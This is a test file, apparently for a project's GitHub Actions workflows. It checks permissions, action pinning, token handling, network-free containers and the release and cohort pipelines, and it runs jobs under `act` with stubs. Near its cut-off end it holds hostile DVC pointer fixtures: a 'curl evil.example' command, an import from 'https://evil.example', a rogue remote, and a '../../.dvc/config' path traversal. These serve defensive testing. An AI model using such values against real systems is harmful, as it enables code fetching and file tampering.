"""The workflows: linted, held to their rules, and their jobs run by `act` on this machine.

Actions of others are replaced by stubs: `checkout` clones the revision it is asked for, the rest
does as little as will do. `docker` is a shim before the real engine: it builds by `docker build` on
the base image of these tests, and under another name than people's own `oncopixel`.
"""

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from engine import base_image, buildkit_client, docker, need_engine
from github_api import REPOSITORY, REPOSITORY_ID, TOKEN, fake_github, reached, zipped

from conftest import Project

ROOT = Path(__file__).parents[2]
TOOLS = Path(sys.executable).parent
FOLDER = ROOT / ".github/workflows"
FILES = sorted(FOLDER.glob("*.yml"))
IMAGE = "oncopixel-act"

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="act and hadolint are in the lock for Linux only"
)


class Loader(yaml.SafeLoader):
    """YAML 1.2 in the one point that matters: `on` is a word."""


Loader.yaml_implicit_resolvers = {
    first: [r for r in resolvers if r[0] != "tag:yaml.org,2002:bool"]
    for first, resolvers in yaml.SafeLoader.yaml_implicit_resolvers.items()
}


def load(file: Path) -> dict[str, Any]:
    return yaml.load(file.read_text(encoding="utf-8"), Loader)  # noqa: S506 (a SafeLoader)


WORKFLOWS = {file.stem: load(file) for file in FILES}
JOBS = {
    f"{name}/{job}": content
    for name, workflow in WORKFLOWS.items()
    for job, content in workflow["jobs"].items()
}
STEPS = [(job, step) for job, content in JOBS.items() for step in content.get("steps", [])]
ACTIONS = sorted({step["uses"] for _, step in STEPS if "uses" in step})
SCRIPTS = [(job, step["run"]) for job, step in STEPS if "run" in step]
each_job = pytest.mark.parametrize("job", JOBS)


# --- linters ----------------------------------------------------------------------------------


def test_the_commands_of_every_step_are_clean_shell(tmp_path: Path) -> None:
    files = []
    for number, (_, script) in enumerate(SCRIPTS):
        files.append(tmp_path / f"{number}.sh")
        files[-1].write_text(f"#!/usr/bin/env bash\nset -eo pipefail\n{script}", encoding="utf-8")
    done = subprocess.run(
        [TOOLS / "shellcheck", *files], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout


# --- rules ------------------------------------------------------------------------------------


def test_every_action_is_pinned_by_its_commit() -> None:
    text = "\n".join(file.read_text(encoding="utf-8") for file in FILES)
    used = re.findall(r"\buses: (\S+)(.*)", text)
    assert len(used) > 10
    commits: dict[str, set[str]] = {}
    for action, comment in used:
        if not action.startswith("./"):
            name, commit = action.split("@")
            assert re.fullmatch(r"[0-9a-f]{40}", commit), action
            assert re.search(r"# v\d+\.\d+\.\d+$", comment), f"{action} does not say its version"
            commits.setdefault(name, set()).add(commit)
    assert all(len(found) == 1 for found in commits.values()), commits


def test_rights_are_none_then_named_per_job() -> None:
    for name, workflow in WORKFLOWS.items():
        assert workflow["permissions"] == {}, name
    for name, job in JOBS.items():
        assert isinstance(job["permissions"], dict), name
        assert "uses" in job or job["timeout-minutes"], name


def test_checkouts_leave_no_token_behind() -> None:
    checkouts = [step for _, step in STEPS if step.get("uses", "").startswith("actions/checkout@")]
    assert len(checkouts) > 5
    assert all(step["with"]["persist-credentials"] == "false" for step in checkouts)


def test_no_value_from_outside_is_pasted_into_a_command() -> None:
    assert [job for job, script in SCRIPTS if "${{" in script] == []


def test_there_is_no_stored_secret_at_all() -> None:
    for file in FILES:
        assert not re.search(r"secrets\s*[.\[:]", file.read_text(encoding="utf-8")), file


def test_only_two_workflows_run_after_a_pull_request_with_rights() -> None:
    for name, workflow in WORKFLOWS.items():
        assert "pull_request_target" not in workflow["on"], name
        assert ("workflow_run" in workflow["on"]) == (name in {"report", "cohorts"}), name


@each_job
def test_a_job_of_a_pull_request_can_only_read(job: str) -> None:
    if "pull_request" in WORKFLOWS[job.split("/")[0]]["on"]:
        assert set(JOBS[job]["permissions"].items()) <= {("contents", "read")}


def test_where_the_cloud_identity_is_only_the_default_branch_runs() -> None:
    job = JOBS["cohorts/reproduce"]
    assert job["permissions"] == {"contents": "read", "id-token": "write"}
    assert job["environment"] == "cohorts"
    trusted, change, *steps = job["steps"]
    assert trusted["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    assert (trusted["with"]["path"], change["with"]["path"]) == ("trusted", "change")
    scripts = [step["run"] for step in steps]
    pull = next(i for i, script in enumerate(scripts) if "identity.sh" in script)
    for script in scripts[: pull + 1]:
        assert script.count("$PWD/change") == script.count("$PWD/change:/change:ro")
    assert scripts[0].endswith(" trusted")
    assert "trusted/.github/scripts/identity.sh" in scripts[pull]
    assert scripts[pull].strip().endswith('rm "$RUNNER_TEMP/identity"')
    assert '--volume "$PWD/pulled:/app"' in scripts[pull]
    for script in scripts[pull + 1 :]:
        assert script.count("docker run") == script.count("--network none") == 1
        assert "AWS" not in script
        assert "identity" not in script
    assert '--volume "$PWD/trusted:/app:ro"' in scripts[-1]  # whose code judges the results


def test_the_report_runs_nothing_of_the_pull_request() -> None:
    (job,) = WORKFLOWS["report"]["jobs"].values()
    checkout, comment = job["steps"]
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    assert comment == {
        "name": "Comment",
        "env": {"GH_TOKEN": "${{ github.token }}"},
        "run": "python3 .github/scripts/comment.py",
    }
    assert job["permissions"] == {"actions": "read", "contents": "read", "pull-requests": "write"}
    assert WORKFLOWS["report"]["on"]["workflow_run"]["workflows"] == ["pipeline"]
    assert WORKFLOWS["pipeline"]["name"] == "pipeline"


def test_caches_are_written_from_main_only() -> None:
    saves = [step for _, step in STEPS if step.get("uses", "").startswith("actions/cache")]
    assert len(saves) == 2
    restore, save = saves
    assert restore["uses"].startswith("actions/cache/restore@")
    assert save["uses"].startswith("actions/cache/save@")
    assert save["if"].startswith("github.event_name == 'push' && ")
    assert WORKFLOWS["pipeline"]["on"]["push"] == {"branches": ["main"]}
    release = (FOLDER / "release.yml").read_text(encoding="utf-8")
    assert "cache-from" not in release


def test_a_new_push_cancels_the_runs_of_the_last() -> None:
    for name in ("checks", "pipeline"):
        concurrency = WORKFLOWS[name]["concurrency"]
        assert "github.event.pull_request.number" in concurrency["group"]
        assert concurrency["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"


def test_the_required_job_waits_for_all_others() -> None:
    jobs = dict(WORKFLOWS["checks"]["jobs"])
    assert set(jobs.pop("all-green")["needs"]) == set(jobs)
    assert jobs["test"]["strategy"]["matrix"]["python"] == ["3.11", "3.12", "3.13"]


def test_the_pipeline_runs_without_network_and_rights() -> None:
    ours = [s for j, s in SCRIPTS if j.startswith(("pipeline/", "cohorts/"))]
    runs = [run for script in ours for run in script.split("docker run")[1:]]
    assert len(runs) == 5
    for run in runs:
        assert ("--network none" in run) == ("AWS" not in run)
        for option in ("--read-only", "--cap-drop ALL", "--user", "--tmpfs /tmp"):
            assert option in run
        writable = re.search(r"\$PWD(/change)?:/app\"", run)
        assert not writable or f"$PWD{writable[1] or ''}/.git:/app/.git:ro" in run


def test_after_the_change_ran_only_the_box_runs_its_code() -> None:
    scripts = [script for job, script in SCRIPTS if job == "pipeline/reproduce"]
    first = next(i for i, script in enumerate(scripts) if "box dvc repro" in script)
    for line in "\n".join(scripts[first:]).splitlines():
        assert not re.search(r"\bgit\b", line), line
        assert "python" not in line or line.strip().startswith(("box ", "targets=$(box "))


# --- jobs that run ----------------------------------------------------------------------------

NOTHING = {"runs": {"using": "composite", "steps": [{"shell": "bash", "run": "true"}]}}
STUBS = {
    "actions/checkout": {
        "inputs": {
            "ref": {"default": "HEAD"}, "path": {"default": "."}, "fetch-depth": {},
            "persist-credentials": {},
        },
        "runs": {"using": "composite", "steps": [{
            "shell": "bash", "env": {"REF": "${{ inputs.ref }}", "INTO": "${{ inputs.path }}"},
            "run": 'git clone -q "$ACT_SOURCE" "$INTO" && git -C "$INTO" checkout -q "$REF"',
        }]},
    },
    "actions/upload-artifact": {
        "inputs": {
            "name": {}, "path": {}, "if-no-files-found": {}, "overwrite": {}, "retention-days": {},
        },
        "runs": {"using": "composite", "steps": [{
            "shell": "bash", "env": {"NAME": "${{ inputs.name }}", "FROM": "${{ inputs.path }}"},
            "run": 'mkdir -p "$ACT_ARTIFACTS/$NAME" && cp "$FROM" "$ACT_ARTIFACTS/$NAME/"',
        }]},
    },
}  # fmt: skip

SHIM = r"""#!/usr/bin/env bash
# docker, for tests/infra/test_workflows.py
set -euo pipefail
[ "$1 $2" != "buildx create" ] || exit 0
arguments=()
for argument; do
  case $argument in
    --load) ;;
    oncopixel) arguments+=("$IMAGE") ;;
    *) arguments+=("$argument") ;;
  esac
done
if [ "$1 $2" = "buildx build" ]; then
  export DOCKER_BUILDKIT=1
  exec "$REAL" build --build-arg BASE="$BASE" "${arguments[@]:2}"
fi
exec "$REAL" "${arguments[@]}"
"""


class Act:
    """`act` with stubs, on a clean clone, in a home of its own."""

    def __init__(self, folder: Path, source: Path) -> None:
        self.folder, self.source = folder, source
        self.artifacts = folder / "artifacts"
        for name in ("bin", "home"):
            (folder / name).mkdir(parents=True)
        self.stubs: list[str] = []
        for action in ACTIONS:
            if action.startswith("./"):
                continue
            owner, name, *inside = action.split("@")[0].split("/")
            place = folder / "stubs" / owner / name
            stub = STUBS.get(f"{owner}/{name}", NOTHING)
            inner = place.joinpath(*inside)
            inner.mkdir(parents=True, exist_ok=True)
            (inner / "action.yml").write_text(yaml.safe_dump({"name": "stub"} | stub))
            commit = action.split("@")[1]
            self.stubs += ["--local-repository", f"{owner}/{name}@{commit}={place}"]

    def docker(self, script: str) -> None:
        """Puts `script` first on PATH as `docker`."""
        (self.folder / "bin/docker").write_text(script)
        (self.folder / "bin/docker").chmod(0o755)

    def run(
        self, event: str, workflow: str | Path, payload: dict[str, Any], *options: str,
        **env: str,
    ) -> tuple[int, str]:  # fmt: skip
        """Exit status and output of one event."""
        place = self.folder / "event.json"
        repository = {"full_name": REPOSITORY, "default_branch": "main"}
        place.write_text(json.dumps({"repository": repository} | payload))
        told = {"ACT_SOURCE": str(self.source), "ACT_ARTIFACTS": str(self.artifacts)} | env
        path = os.pathsep.join([str(self.folder / "bin"), str(TOOLS), os.environ["PATH"]])
        done = subprocess.run(
            [
                TOOLS / "act", event, "--workflows", str(workflow), "--eventpath", place,
                "--platform", "ubuntu-24.04=-self-hosted", "--no-cache-server", *self.stubs,
                *(word for name, value in told.items() for word in ("--env", f"{name}={value}")),
                "--env", f"GITHUB_REPOSITORY={REPOSITORY}", *options,
            ],
            cwd=self.source, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True,
            stderr=subprocess.STDOUT, check=False,
            env=os.environ | {"HOME": str(self.folder / "home"), "PATH": path},
        )  # fmt: skip
        return done.returncode, done.stdout


def pull_request(head: str, base: str, owner: str = REPOSITORY) -> dict[str, Any]:
    return {
        "pull_request": {
            "number": 3,
            "head": {"sha": head, "ref": "work", "repo": {"full_name": owner}},
            "base": {"sha": base, "ref": "main"},
        }
    }


@pytest.fixture
def source(finished: Project, tmp_path: Path) -> Project:
    """A clean clone of a finished project: what is on GitHub."""
    return finished.clone(tmp_path / "source")


@pytest.fixture
def act(source: Project, tmp_path: Path) -> Act:
    return Act(tmp_path / "act", source.folder)


def revision(project: Project) -> str:
    return project.run("git", "rev-parse", "HEAD").stdout.strip()


@pytest.fixture
def engine() -> Iterator[None]:
    need_engine()
    yield
    docker("rmi", "--force", IMAGE, check=False)


def test_a_pull_request_from_pipeline_to_comment(source: Project, act: Act, engine: None) -> None:
    """The whole way, with the real engine: image, reproduction, numbers, comment.

    The pull request changes a parameter and the committed results with it, and, as a hostile one
    would, the script that comments.
    """
    base = revision(source)
    source.run("git", "switch", "-q", "-c", "work")
    (source.folder / ".github/scripts/comment.py").write_text("raise SystemExit('taken over')\n")
    source.set_params(lambda params: params["validation"].update(min_samples=40))
    recorded = source.folder / "reports/simulated/params.json"
    written = recorded.read_text()
    assert '"validation.min_samples": 50' in written
    recorded.write_text(written.replace('min_samples": 50', 'min_samples": 40'))
    source.commit("change")
    head = revision(source)
    source.run("git", "switch", "-q", "main")

    act.docker(SHIM)
    status, said = act.run(
        "pull_request", FOLDER / "pipeline.yml", pull_request(head, base), "--job", "reproduce",
        IMAGE=IMAGE, REAL=buildkit_client(), BASE=base_image(),
    )  # fmt: skip
    assert status == 0, said[-6000:]
    assert "Running stage 'train@simulated'" in said
    assert "reproduced: simulated" in said
    assert re.search(r"Summary - \*\*No score changed \(\d+ compared\) · reproduced\*\*", said)
    written = (act.artifacts / "numbers/numbers.json").read_bytes()
    facts = json.loads(written)["run"]
    assert facts["reproduced"] is True
    assert facts["cohorts"] == ["simulated"]
    assert facts["seconds"] > 0
    assert facts["image_bytes"] > 1e9

    with fake_github() as github:
        number = github.add_pull(head, base)
        github.merge_bases[base, head] = base
        github.add_artifact(777, zipped(("numbers.json", written)))
        run = {
            "id": 777, "head_sha": head, "head_branch": "work", "event": "pull_request",
            "conclusion": "success", "head_repository": {"id": REPOSITORY_ID},
        }  # fmt: skip
        status, said = act.run(
            "workflow_run", FOLDER / "report.yml", {"workflow_run": run},
            "--secret", f"GITHUB_TOKEN={TOKEN}", **reached(github),
        )  # fmt: skip
        assert status == 0, said[-6000:]
        (body,) = github.bodies(number)
    assert "reproduced" in body.splitlines()[1]
    assert "- `validation.min_samples`: `50` → `40`" in body


ROLE = ["--var", "COHORTS_ROLE=arn:aws:iam::1:role/reader"]
STUB_ENGINE = r"""#!/usr/bin/env bash
# Stub, no engine: `docker run` "reproduces" an AUC that is lower than the committed one.
case "$*" in
  *cohorts.py*) echo $TARGETS ;;
  *prdiff*)
    while [ "$1" != oncopixel ]; do shift; done
    shift 2
    PYTHONPATH=src exec python3 "${@//\/told\//$RUNNER_TEMP/told/}" ;;
  run*) python3 - <<'END'
import json
name = "reports/simulated/evaluation.json"
report = json.load(open(name))
report["models"]["cnn"]["test"]["roc_auc"]["value"] -= 0.2
json.dump(report, open(name, "w"))
END
  ;;
  image*) echo 1000000000 ;;
esac
"""


def test_results_that_are_not_reproduced_fail_after_they_were_reported(
    source: Project, act: Act
) -> None:
    head = revision(source)
    act.docker(STUB_ENGINE)
    status, said = act.run(
        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce",
        TARGETS="report@simulated",
    )  # fmt: skip
    assert status == 1
    assert re.search("not reproduced: simulated: test_roc_auc is .*, committed", said)
    assert "Failure - Main Require the committed results" in said
    assert "Summary - **" in said
    numbers = json.loads((act.artifacts / "numbers/numbers.json").read_bytes())
    assert numbers["run"]["reproduced"] is False


def test_where_no_cohort_runs_without_network_the_run_says_so(source: Project, act: Act) -> None:
    head = revision(source)
    act.docker(STUB_ENGINE)
    status, said = act.run(
        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce",
        TARGETS="",
    )  # fmt: skip
    assert status == 0, said[-4000:]
    assert "Nothing was reproduced" in said
    numbers = json.loads((act.artifacts / "numbers/numbers.json").read_bytes())
    assert "reproduced" not in numbers["run"]


def test_a_pipeline_that_fails_uploads_nothing(source: Project, act: Act) -> None:
    head = revision(source)
    act.docker('#!/bin/sh\n[ "$1" != run ]\n')
    status, said = act.run(
        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce"
    )
    assert status == 1
    assert "Failure - Main Reproduce every cohort" in said
    assert not act.artifacts.exists()


def shortened(workflow: str, steps: dict[str, str], place: Path, **more: Any) -> Path:
    """A workflow with the same conditions whose jobs only run one command each."""
    jobs = {}
    for name, command in steps.items():
        kept = {k: v for k, v in WORKFLOWS[workflow]["jobs"][name].items() if k in ("if", "needs")}
        jobs[name] = kept | {"runs-on": "ubuntu-24.04", "steps": [{"run": command}]} | more
    place.write_text(json.dumps({"on": WORKFLOWS[workflow]["on"], "jobs": jobs}))
    return place


@pytest.mark.parametrize(
    ("owner", "options", "conclusion", "reached"),
    [
        ({"full_name": REPOSITORY}, ROLE, "success", True),
        ({"full_name": REPOSITORY}, [], "success", False),
        ({"full_name": REPOSITORY}, ROLE, "failure", False),
        ({"full_name": "stranger/oncopixel"}, ROLE, "success", False),
        (None, ROLE, "success", False),
    ],
    ids=["own branch", "no role configured", "not reproduced", "fork", "deleted fork"],
)
def test_only_own_branches_reach_the_real_cohorts(
    source: Project, act: Act, tmp_path: Path, owner: dict[str, str] | None, options: list[str],
    conclusion: str, reached: bool,
) -> None:  # fmt: skip
    steps = {"reproduce": "echo reached-the-cohorts", "tell": "echo told"}
    workflow = shortened("cohorts", steps, tmp_path / "short.yml")
    run = {"event": "pull_request", "conclusion": conclusion, "head_repository": owner}
    status, said = act.run("workflow_run", workflow, {"workflow_run": run}, *options)
    assert status == 0, said
    assert ("| reached-the-cohorts" in said) == reached
    assert ("| told" in said) == reached


def test_cohorts_that_cannot_be_listed_fail_the_job(tmp_path: Path) -> None:
    (script,) = (s for j, s in SCRIPTS if j == "cohorts/reproduce" and "cohorts.py" in s)
    (tmp_path / "docker").write_text("#!/bin/sh\nexit 1\n")
    (tmp_path / "docker").chmod(0o755)
    done = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script], check=False, cwd=tmp_path,
        env={"PATH": f"{tmp_path}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(tmp_path / "out")},
    )  # fmt: skip
    assert done.returncode == 1


@pytest.mark.parametrize("result", ["true", "false"])
def test_all_green_means_all(source: Project, act: Act, tmp_path: Path, result: str) -> None:
    (gate,) = (s["run"] for j, s in STEPS if j == "checks/all-green")
    steps = {"lint": "true", "test": result, "actionlint": "true", "all-green": gate}
    workflow = shortened("checks", steps, tmp_path / "short.yml")
    jobs = json.loads(workflow.read_text())
    jobs["jobs"]["all-green"]["env"] = {"RESULTS": "${{ join(needs.*.result, ' ') }}"}
    workflow.write_text(json.dumps(jobs))
    _, said = act.run("push", workflow, {"ref": "refs/heads/main"})
    ended = re.search(r"all-green\s*\].*Job (succeeded|failed)", said)
    assert ended, said
    assert ended[1] == ("succeeded" if result == "true" else "failed")


def test_the_lint_job_passes(source: Project, act: Act, tmp_path: Path) -> None:
    """With these tests' own environment in the place of the one that it would build."""
    ready = tmp_path / "venv"
    ready.mkdir()
    (ready / "bin").symlink_to(TOOLS)
    for name in (".ready", ".ready-dev"):
        (ready / name).touch()
        os.utime(ready / name, (2**32, 2**32))
    status, said = act.run(
        "push", FOLDER / "checks.yml", {"ref": "refs/heads/main"}, "--job", "lint",
        MAKEFLAGS=f"VENV={ready}",
    )  # fmt: skip
    assert status == 0, said[-4000:]
    assert "Success - Main make lint" in said


def released(project: Project, version: str) -> None:
    path = project.folder / "pyproject.toml"
    path.write_text(re.sub(r'(?m)^version = "[^"]*"', f'version = "{version}"', path.read_text()))
    path = project.folder / "CHANGELOG.md"
    text = f"## [{version}] - 2030-01-01\n\n### Added\n- What is new.\n\n## [0.0.1]\n- Old.\n"
    path.write_text(f"# Changelog\n\n## [Unreleased]\n- Not yet.\n\n{text}")
    project.commit(f"version {version}")


@pytest.mark.parametrize(
    ("tag", "branch", "problem"),
    [
        ("v1.2.0", "main", None),
        ("v1.3.0", "main", "the tag says 1.3.0, pyproject.toml says 1.2.0"),
        ("v1.2.0", "work", "v1.2.0 is not on main"),
    ],
    ids=["right", "another version", "not on main"],
)
def test_a_release_needs_one_version_and_main(
    finished: Project, tmp_path: Path, tag: str, branch: str, problem: str | None
) -> None:
    origin = finished.clone(tmp_path / "origin")
    origin.run("git", "switch", "-q", "-C", branch)
    released(origin, "1.2.0")
    clone = origin.clone(tmp_path / "source")
    if branch != "main":
        clone.run("git", "update-ref", "refs/remotes/origin/main", "HEAD^")
    act = Act(tmp_path / "act", clone.folder)
    status, said = act.run(
        "push", FOLDER / "release.yml", {"ref": f"refs/tags/{tag}"}, "--job", "notes"
    )
    if problem is None:
        assert status == 0, said
        assert (act.artifacts / "notes/notes.md").read_text() == "### Added\n- What is new.\n"
    else:
        assert status == 1, said
        assert "Failure - Main git merge-base" in said
        # act may lose what a step says just before it fails, so the step says it once more
        (script,) = (run for job, run in SCRIPTS if job == "release/notes")
        there = {"GITHUB_REF_NAME": tag, "RUNNER_TEMP": str(tmp_path)}
        again = clone.run("bash", "-eo", "pipefail", "-c", script, check=False, **there)
        assert again.returncode == 1
        assert problem in again.stderr


def test_a_release_needs_a_changelog(finished: Project, tmp_path: Path) -> None:
    clone = finished.clone(tmp_path / "source")
    released(clone, "1.2.0")
    (clone.folder / "CHANGELOG.md").write_text("## [1.2.0]\n\n## [1.1.0]\n- Old.\n")
    done = clone.run(sys.executable, ".github/scripts/release_notes.py", "v1.2.0", check=False)
    assert done.returncode == 1
    assert "nothing under a heading `## [1.2.0]`" in done.stderr


def test_the_package_is_built_with_the_same_bytes_each_time(source: Project) -> None:
    (script,) = (s for j, s in SCRIPTS if j == "release/package")
    build = script.splitlines()[-1].replace(".venv/bin/", f"{TOOLS}/")
    made = []
    for _ in range(2):
        source.run("bash", "-ec", build)
        made.append({p.name: p.read_bytes() for p in (source.folder / "dist").iterdir()})
        shutil.rmtree(source.folder / "dist")
    assert len(made[0]) == 2
    assert made[0] == made[1]


def test_a_release_needs_a_remote_that_holds_everything(source: Project, tmp_path: Path) -> None:
    """The command of the job `remote`; without a default remote there is nothing to check."""
    (source.folder / ".venv").symlink_to(TOOLS.parent)
    script = JOBS["release/remote"]["steps"][-1]["run"]
    none = source.run("bash", "-ec", script, AWS_ROLE_ARN="")
    assert "no remote is configured" in none.stdout
    source.run("dvc", "remote", "add", "--default", "store", str(tmp_path / "empty"))
    empty = source.run("bash", "-ec", script, AWS_ROLE_ARN="", check=False)
    assert empty.returncode == 3
    assert "missing" in empty.stderr


def test_the_identity_is_asked_for_as_github_wants_it() -> None:
    asked = []

    class Issuer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append((self.path, self.headers["Authorization"]))
            content = b'{"value": "an.identity.token"}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            """Nothing is printed."""

    with HTTPServer(("127.0.0.1", 0), Issuer) as server:
        thread = threading.Thread(target=server.handle_request)
        thread.start()
        address = f"http://127.0.0.1:{server.server_port}/token?api-version=2.0"
        done = subprocess.run(
            [ROOT / ".github/scripts/identity.sh"], capture_output=True, text=True, check=True,
            env=os.environ | {
                "ACTIONS_ID_TOKEN_REQUEST_URL": address, "NO_PROXY": "127.0.0.1",
                "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "a-request-token",
            },
        )  # fmt: skip
        thread.join()
    assert done.stdout == "an.identity.token"
    path = "/token?api-version=2.0&audience=sts.amazonaws.com"
    assert asked == [(path, "bearer a-request-token")]


RELEASED = ["v1.2.0", "v1.10.0", "v2.0.0rc1"]


@pytest.mark.parametrize(
    ("tag", "released", "newest"),
    [
        ("v1.10.1", RELEASED, True),
        ("v1.10.0", RELEASED, True),
        ("v1.9.9", RELEASED, False),
        ("v2.0.0rc2", RELEASED, False),
        ("v0.1.0", [], True),
        ("v0.1.0rc1", [], False),
    ],
)
def test_latest_moves_forward_only(
    tmp_path: Path, tag: str, released: list[str], newest: bool
) -> None:
    job = JOBS["release/release"]
    (script,) = (step["run"] for step in job["steps"] if step.get("id") == "newest")
    (tmp_path / "gh").write_text("#!/bin/sh\n" + "".join(f"echo {tag}\n" for tag in released))
    (tmp_path / "gh").chmod(0o755)
    out = tmp_path / "out"
    subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script], check=True,
        env={
            "PATH": f"{tmp_path}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(out),
            "GITHUB_REF_NAME": tag, "GITHUB_REPOSITORY": REPOSITORY,
        },
    )  # fmt: skip
    assert out.read_text() == f"newest={str(newest).lower()}\n"


def test_latest_moves_after_the_approval_only() -> None:
    latest, release = JOBS["release/latest"], JOBS["release/release"]
    assert latest["needs"] == ["image", "release"]
    assert release["needs"] == "publish"
    assert JOBS["release/publish"]["environment"] == "release"
    assert [job for job, script in SCRIPTS if ":latest" in script] == ["release/latest"]


COHORTS = ROOT / ".github/scripts/cohorts.py"
MD5 = "0123456789abcdef" * 2


class Change:
    """A pull request's files with cohorts of every kind, beside a trusted checkout."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.trusted = folder / "change", folder / "trusted"
        (self.trusted / ".dvc").mkdir(parents=True)
        (self.trusted / ".dvc/config").write_text("[core]\nremote = ours\n")
        (self.folder / "data/here").mkdir(parents=True)
        self.entries: dict[Any, Any] = {
            "shipped": {"source": {"kind": "files"}, "inputs": "data/here"},
            "ours": {"source": {"kind": "files"}, "inputs": "data/sources/ours"},
            "gdc": {"source": {"kind": "gdc"}, "inputs": "data/here"},
        }
        outs = [
            {"path": f"data/gdc/{name}", "md5": MD5, "hash": "md5"}
            for name in ("cohort.h5ad", "external.h5ad", "truth.csv", "clinical.csv")
        ]
        self.put("dvc.lock", {"stages": {"ingest@gdc": {"outs": outs}}})
        self.put("data/sources/ours.dvc", {"outs": [{"md5": f"{MD5}.dir", "path": "ours"}]})

    def put(self, name: str, content: Any) -> None:
        (self.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (self.folder / name).write_text(yaml.safe_dump(content, sort_keys=False))

    def run(self, *arguments: str, cwd: Path) -> subprocess.CompletedProcess[str]:
        self.put("params.yaml", {"cohorts": self.entries})
        command = [sys.executable, COHORTS, *arguments]
        return subprocess.run(command, cwd=cwd, capture_output=True, text=True, check=False)

    def pointers(self) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
        """What the script says, and the files that it makes, parsed."""
        pulled = self.folder.parent / "pulled"
        shutil.rmtree(pulled, ignore_errors=True)
        done = self.run("pointers", str(self.folder), str(pulled), cwd=self.trusted)
        return done, {
            str(path.relative_to(pulled)): yaml.safe_load(path.read_text())
            for path in pulled.rglob("*.dvc") if path.is_file()
        }  # fmt: skip


@pytest.fixture
def change(tmp_path: Path) -> Change:
    return Change(tmp_path)


def pointer(name: str, md5: str = MD5) -> dict[str, Any]:
    return {"outs": [{"md5": md5, "hash": "md5", "path": name}]}


def test_cohorts_are_told_apart_by_where_their_data_are(change: Change) -> None:
    here = change.run("here", cwd=change.folder)
    assert here.stdout == "report@shipped\n"
    assert "cohort gdc is not run here: its source downloads" in here.stderr
    assert "cohort ours is not run here: data/sources/ours is not in git" in here.stderr
    done, made = change.pointers()
    assert done.stdout == "report@ours validate@gdc\n"
    names = ("cohort.h5ad", "external.h5ad", "truth.csv", "clinical.csv")
    assert made == {
        "data/sources/ours.dvc": pointer("ours", f"{MD5}.dir"),
        **{f"data/gdc/{name}.dvc": pointer(name) for name in names},
    }
    config = change.folder.parent / "pulled/.dvc/config"
    assert config.read_text() == "[core]\nremote = ours\n"


@pytest.mark.parametrize(
    "entry",
    [
        {"source": {"kind": "xena", "hub": "https://hub.example.org/download"}},
        {"source": {"kind": "cbioportal", "url": "https://hub.example.org/study"}},
        {"source": {"kind": "files", "expression": "http://hub.example.org/x.tsv"}},
        {"source": {"kind": "files"}, "external": {"source": {"kind": "gdc"}}},
    ],
)
def test_a_cohort_whose_source_downloads_is_not_run_here(change: Change, entry: Any) -> None:
    change.entries = {"one": entry | {"inputs": "data/here"}}
    done = change.run("here", cwd=change.folder)
    assert done.returncode == 0
    assert done.stdout.strip() == ""
    assert "its source downloads" in done.stderr
    change.put("dvc.lock", {})
    done, made = change.pointers()
    assert done.returncode == 0
    assert (done.stdout.strip(), made) == ("", {})
    assert "no pointer to its data" in done.stderr


def test_what_the_pointers_name_is_pulled_and_put_beside_the_code(
    change: Change, tmp_path: Path
) -> None:
    """The commands of the workflow, without their containers."""
    store = tmp_path / "store"
    listing = json.dumps([{"md5": oid(b"ours"), "relpath": "sub/x"}]).encode()
    names = {oid(listing) + ".dir": listing, oid(b"ours"): b"ours", oid(b"gdc"): b"gdc"}
    for name, content in names.items():
        stored = store / "files/md5" / name[:2] / name[2:]
        stored.parent.mkdir(parents=True, exist_ok=True)
        stored.write_bytes(content)
    config = f"[core]\nremote = ours\n['remote \"ours\"']\nurl = {store}\nverify = true\n"
    (change.trusted / ".dvc/config").write_text(config)
    change.put("data/sources/ours.dvc", pointer("ours", oid(listing) + ".dir"))
    outs = [{"path": "data/gdc/cohort.h5ad", "md5": oid(b"gdc"), "hash": "md5"}]
    change.put("dvc.lock", {"stages": {"ingest@gdc": {"outs": outs}}})
    done, _ = change.pointers()
    assert done.stdout == "report@ours validate@gdc\n"
    pulled, path = tmp_path / "pulled", f"{TOOLS}:{os.environ['PATH']}"
    subprocess.run([TOOLS / "dvc", "pull"], cwd=pulled, check=True)
    (script,) = (script for _, script in SCRIPTS if "tar -C /pulled" in script)
    (copy,) = (line for line in script.splitlines() if "tar -C" in line)
    copy = copy.replace("/pulled", str(pulled)).replace("/app", str(change.folder))
    subprocess.run(["bash", "-ec", copy], check=True, env={"PATH": path})
    assert (change.folder / "data/sources/ours/sub/x").read_bytes() == b"ours"
    assert (change.folder / "data/gdc/cohort.h5ad").read_bytes() == b"gdc"
    assert not (change.folder / ".dvc").exists()
    assert not (change.folder / "data/gdc/cohort.h5ad.dvc").exists()


def oid(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


@pytest.mark.parametrize(
    "hostile",
    [
        {"deps": [{"path": "x", "repo": {"url": "https://evil.example"}}]},
        {"cmd": "curl evil.example", "frozen": False},
        {"outs": [{"md5": MD5, "path": "ours", "remote": "evil", "cloud": {"evil": {}}}]},
        {"outs": [pointer("ours")["outs"][0], {"md5": MD5, "path": "../../.dvc/config"}]},
    ],
    ids=["import", "command", "remote", "another place"],
)
def test_of_a_pointer_only_the_digest_is_taken(change: Change, hostile: dict[str, Any]) -> None:
    change.put("data/sources/ours.dvc", pointer("ours") | hostile)
    done, made = change.pointers()
